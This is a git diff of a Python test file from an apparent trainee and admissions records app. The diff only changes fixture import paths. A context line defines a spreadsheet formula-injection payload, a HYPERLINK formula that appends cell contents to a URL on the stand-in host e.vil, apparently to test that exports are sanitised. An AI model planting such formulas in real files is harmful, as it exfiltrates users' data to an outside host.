@@ -19,9 +19,9 @@ from app.extensions import db
 from app.infra.xlsx import safe_row
 from models import AuditLog, Education, Employment, Institution, Licence, ReviewRecord, Trainee
 from tests.conftest import csrf_token
-from tests.domain.test_admission import EXPORT as ADMISSION_EXPORT
-from tests.domain.test_admission import scene  # noqa: F401  (fixture)
-from tests.domain.test_scores import TEMPLATE, exam, imported_rows, refused_rows, upload  # noqa: F401
+from tests.admission_scene import EXPORT as ADMISSION_EXPORT
+from tests.admission_scene import scene  # noqa: F401  (fixture)
+from tests.exams import TEMPLATE, exam, imported_rows, refused_rows, upload  # noqa: F401
 from tests.factories import PASSWORD
 
 HYPERLINK = '=HYPERLINK("http://e.vil/?"&A1&C1,"点我")'  # fits a name (50)
